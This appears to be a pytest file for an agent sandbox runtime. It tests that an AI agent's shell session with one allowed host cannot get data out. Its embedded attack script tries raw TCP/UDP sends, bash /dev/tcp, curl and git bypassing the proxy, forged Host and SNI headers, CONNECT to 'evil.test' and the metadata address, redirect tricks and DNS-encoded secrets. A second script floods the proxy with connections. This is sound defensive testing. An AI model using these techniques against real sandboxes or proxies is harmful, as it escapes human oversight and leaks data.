"""Exfiltration attempts from a session whose egress allows one host, with every approval
denied: as the agent (bash tool, Landlock), many programs and tricks, in loops. What
"landed" is counted where it would arrive: the sink's TCP and UDP listeners on every host
address, requests and TLS server names seen by the loopback servers under a name other than
the allowed one, and attempts that reported success."""

from __future__ import annotations

import json

import anyio
import pytest

from caisson import Runtime

from .conftest import Approver, bash, open_tooled
from .servers import Origin, Sink, host_addresses

pytestmark = pytest.mark.anyio

ROUNDS = 5

ATTACK = r'''
import json, socket, ssl, subprocess, sys
cfg = json.loads(sys.argv[1])
P, H, SINK, ADDRS = cfg["https"], cfg["http"], cfg["sink"], cfg["addrs"]
PROXY = ("127.0.0.1", 3128)
results = []

def attempt(name, fn):
    try:
        ok = bool(fn())
    except Exception as exc:
        ok = False
    results.append([name, ok])

def tcp(addr, port):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s.settimeout(3)
    s.connect((addr, port))
    s.sendall(b"exfil")
    return True

def udp(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"exfil", (addr, port)) > 0

def proxy(raw, expect_body=b"hello"):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(raw)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    return data.startswith(b"HTTP/1.1 200") and expect_body in data

def tunnel(target, sni, host_header=None):
    s = socket.create_connection(PROXY, timeout=10)
    extra = b"Host: " + host_header.encode() + b"\r\n" if host_header else b""
    s.sendall(b"CONNECT " + target.encode() + b" HTTP/1.1\r\n" + extra + b"\r\n")
    line = s.recv(200)
    if not line.startswith(b"HTTP/1.1 200"):
        return False
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(b"GET /hello HTTP/1.1\r\nHost: " + sni.encode() + b"\r\nConnection: close\r\n\r\n")
    data = b""
    while True:
        chunk = t.recv(65536)
        if not chunk:
            return b"hello" in data
        data += chunk

def run(cmd):
    return subprocess.run(cmd, shell=True, capture_output=True, timeout=30).returncode == 0

# Controls: the same helpers against what is allowed work, so a refusal above is the wall's.
attempt("control: tunnel to the allowed host", lambda: tunnel("origin.test:%d" % P, "origin.test"))
attempt("control: plain request to the allowed host", lambda: proxy(
    b"GET http://origin.test:%d/hello HTTP/1.1\r\nHost: origin.test:%d\r\n\r\n" % (H, H)))
attempt("control: redirect within the allowed host", lambda: run(
    "curl -sSf -L -m 10 'https://origin.test:%d/redirect?to=https://origin.test:%d/hello'" % (P, P)))

for r in range(ROUNDS):
    for addr in ADDRS + ["127.0.0.1", "8.8.8.8", "1.1.1.1", "169.254.169.254", "::1"]:
        attempt("tcp %s:%d" % (addr, SINK), lambda: tcp(addr, SINK))
        attempt("tcp %s:443" % addr, lambda: tcp(addr, 443))
    for addr in ADDRS + ["8.8.8.8", "1.1.1.1"]:
        attempt("udp %s:%d" % (addr, SINK), lambda: udp(addr, SINK))
        attempt("udp %s:53" % addr, lambda: udp(addr, 53))
    for name in ("example.com", "evil.test", "origin.test", "exfil-%d.example.org" % r):
        attempt("dns " + name, lambda: socket.getaddrinfo(name, 443))
    if cfg["landlock"]:
        # Another loopback port than the proxy's (a listener root started there): Landlock refuses.
        attempt("loopback port 8765", lambda: tcp("127.0.0.1", 8765))
        attempt("bind a listener", lambda: socket.create_server(("127.0.0.1", 0)))
    attempt("bash /dev/tcp", lambda: run("exec 3<>/dev/tcp/%s/%d" % (ADDRS[0], SINK)))
    attempt("curl without proxy", lambda: run("curl -sS --noproxy '*' -m 5 http://%s:%d/" % (ADDRS[0], SINK)))
    attempt("git without proxy", lambda: run("git -c http.proxy= ls-remote http://%s:%d/x.git" % (ADDRS[0], SINK)))
    # The proxy, lied to.
    attempt("forged Host (plain)", lambda: proxy(
        b"GET http://origin.test:%d/hello HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (H, H)))
    attempt("two Host headers", lambda: proxy(
        b"GET http://origin.test:%d/hello HTTP/1.1\r\nHost: origin.test:%d\r\nHost: evil.test:%d\r\n\r\n" % (H, H, H)))
    attempt("disallowed URL, allowed Host", lambda: proxy(
        b"GET http://evil.test:%d/hello HTTP/1.1\r\nHost: origin.test:%d\r\n\r\n" % (H, H)))
    attempt("pipelined second request", lambda: proxy(
        b"GET http://origin.test:%d/hello HTTP/1.1\r\nHost: origin.test:%d\r\n\r\n"
        b"GET http://evil.test:%d/hello HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (H, H, H, H), b"evil"))
    attempt("userinfo trick", lambda: proxy(b"GET http://origin.test:%d@evil.test:%d/hello HTTP/1.1\r\n\r\n" % (H, H)))
    attempt("absolute https URL", lambda: proxy(b"GET https://evil.test:%d/hello HTTP/1.1\r\n\r\n" % P))
    attempt("forged CONNECT Host", lambda: tunnel("origin.test:%d" % P, "origin.test", "evil.test:%d" % P))
    attempt("forged SNI", lambda: tunnel("origin.test:%d" % P, "evil.test"))
    attempt("CONNECT evil", lambda: tunnel("evil.test:%d" % P, "evil.test"))
    attempt("CONNECT IP literal", lambda: tunnel("127.0.0.1:%d" % P, "origin.test"))
    attempt("CONNECT host IP", lambda: tunnel("%s:%d" % (ADDRS[0], P), "origin.test"))
    attempt("CONNECT disallowed port", lambda: proxy(b"CONNECT origin.test:%d HTTP/1.1\r\n\r\nexfil" % SINK, b""))
    attempt("CONNECT metadata", lambda: proxy(b"CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n", b""))
    attempt("oversized head", lambda: proxy(b"GET http://origin.test:%d/ HTTP/1.1\r\nX: " % H + b"a" * 200000 + b"\r\n\r\n"))
    attempt("redirect to evil", lambda: run(
        "curl -sSf -L -m 10 'https://origin.test:%d/redirect?to=https://evil.test:%d/hello'" % (P, P)))
    attempt("redirect to an address", lambda: run(
        "curl -sSf -L -m 10 'https://origin.test:%d/redirect?to=http://%s:%d/'" % (P, ADDRS[0], SINK)))
    attempt("git via redirect", lambda: run(
        "git clone -q 'https://origin.test:%d/redirect?to=https://evil.test:%d/repo.git' /tmp/r%d" % (P, P, r)))
print("RESULTS " + json.dumps(results))
'''


@pytest.mark.parametrize("gvisor", [False, True], ids=["runc", "gvisor"])
async def test_exfiltration_attempts_with_every_approval_denied(
    ert: Runtime, origin: Origin, sink: Sink, gvisor: bool
) -> None:
    """Under gVisor (no Landlock) the two attempts on the container's own loopback are left
    out: nothing stops a command there from reaching another port of its own container."""
    p, h = origin.https_port, origin.http_port
    approver = Approver("deny")
    session = await open_tooled(ert, origin, [f"origin.test:{p}", f"origin.test:{h}"], approver, gvisor=gvisor)
    try:
        # A listener on another loopback port, started by root outside any Landlock domain.
        await session.spawn("python3 -m http.server 8765 --bind 127.0.0.1", user="root")
        code, out = await bash(session, "true")  # the shell's state exists before root's probe
        probe = await session.exec("python3 -c \"import socket; socket.create_connection(('127.0.0.1', 8765), 5)\"")
        for _ in range(50):
            if probe.exit_code == 0:
                break
            await anyio.sleep(0.2)
            probe = await session.exec("python3 -c \"import socket; socket.create_connection(('127.0.0.1', 8765), 5)\"")
        assert probe.exit_code == 0, "control: root's listener on loopback 8765 is up, unconfined root reaches it"
        origin.seen.clear()
        sink.tcp_hits = sink.udp_hits = 0
        config = {"https": p, "http": h, "sink": sink.port, "addrs": host_addresses(), "landlock": not gvisor}
        script = ATTACK.replace("ROUNDS", str(ROUNDS))
        await session.write_file("/workspace/attack.py", script)
        code, out = await bash(session, f"python3 attack.py '{json.dumps(config)}'", timeout=600)
        assert code == 0, out
        line = next(line for line in out.splitlines() if line.startswith("RESULTS "))
        results = json.loads(line.removeprefix("RESULTS "))
        controls = {name: ok for name, ok in results if name.startswith("control")}
        assert controls and all(controls.values()), controls
        results = [(name, ok) for name, ok in results if not name.startswith("control")]
        succeeded = [name for name, ok in results if ok]
        await anyio.sleep(1.0)  # let anything in flight arrive
        strays = [host for host in origin.seen.hosts() if host != "origin.test"]
        names = [name for name in origin.seen.server_names if name != "origin.test"]
        landed = len(succeeded) + sink.tcp_hits + sink.udp_hits + len(strays) + len(names)
        print(
            f"egress attacks ({'gvisor' if gvisor else 'runc'}): tried {len(results)}, landed {landed} (succeeded {succeeded}, sink tcp {sink.tcp_hits}, "
            f"udp {sink.udp_hits}, other Hosts at the servers {strays}, other TLS names {names})"
        )
        assert landed == 0
        assert approver.asked, "hosts off the list were asked about (and denied)"
    finally:
        await session.close()


FLOOD = r'''
import socket, sys
port, n = int(sys.argv[1]), int(sys.argv[2])
held, statuses = [], {}
for i in range(n):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
        s.sendall(b"CONNECT origin.test:%d HTTP/1.1\r\n\r\n" % port)
        held.append(s)
    except OSError as exc:
        statuses["connect " + type(exc).__name__] = statuses.get("connect " + type(exc).__name__, 0) + 1
for s in held:
    try:
        line = s.recv(64).split(b"\r\n")[0].decode() or "closed"
    except OSError as exc:
        line = type(exc).__name__
    statuses[line[:24]] = statuses.get(line[:24], 0) + 1
print(statuses)
'''


async def test_a_connection_flood_is_bounded_and_the_session_recovers(ert: Runtime, origin: Origin) -> None:
    """300 tunnels opened at once and held: at most the session's limit are served, the rest
    refused; once they are gone, the allowed host works again."""
    p = origin.https_port
    session = await open_tooled(ert, origin, [f"origin.test:{p}"], Approver("deny"))
    try:
        await session.write_file("/workspace/flood.py", FLOOD)
        code, out = await bash(session, f"python3 flood.py {p} 300", timeout=300)
        assert code == 0, out
        statuses = eval(out.splitlines()[0], {})  # the script's own dict literal
        served = statuses.get("HTTP/1.1 200 Connection ", 0)
        print(f"connection flood: 300 opened, {served} served; all answers: {statuses}")
        assert 0 < served <= session.config.egress_limits.max_connections
        assert sum(n for line, n in statuses.items() if line.startswith("HTTP/1.1 ")) - served == statuses.get(
            "HTTP/1.1 429 the session", 0
        ), statuses
        with anyio.fail_after(60):
            while session.egress_stats is not None and session.egress_stats.open:
                await anyio.sleep(0.1)
        code, out = await bash(session, f"curl -sS https://origin.test:{p}/hello")
        assert code == 0 and "hello" in out, out
    finally:
        await session.close()


async def test_a_refused_name_never_reaches_the_hosts_resolver(
    ert: Runtime, origin: Origin, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS exfiltration through the proxy: the host resolves a name only once it decided to
    allow it, so a denied name carrying data is never looked up."""
    looked_up: list[str] = []
    real = anyio.getaddrinfo

    async def recording(host: str, *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
        looked_up.append(str(host))
        return await real(host, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(anyio, "getaddrinfo", recording)
    p = origin.https_port
    session = await open_tooled(ert, origin, [f"origin.test:{p}", f"localhost:{p}"], Approver("deny"))
    try:
        tried = 0
        for i in range(10):
            code, out = await bash(session, f"curl -sS https://secret-{i}-c2VjcmV0.example.org/")
            tried += 1
            assert code != 0 and "403" in out, out
        landed = sum("secret" in name for name in looked_up)
        print(f"DNS exfiltration through the proxy: tried {tried}, landed {landed} (names looked up: {looked_up})")
        assert landed == 0
        # Control: an allowed name that no mapping covers is looked up (and refused as loopback).
        code, out = await bash(session, f"curl -sS --noproxy '' https://localhost:{p}/hello")
        assert "403" in out and looked_up == ["localhost"], (out, looked_up)
    finally:
        await session.close()
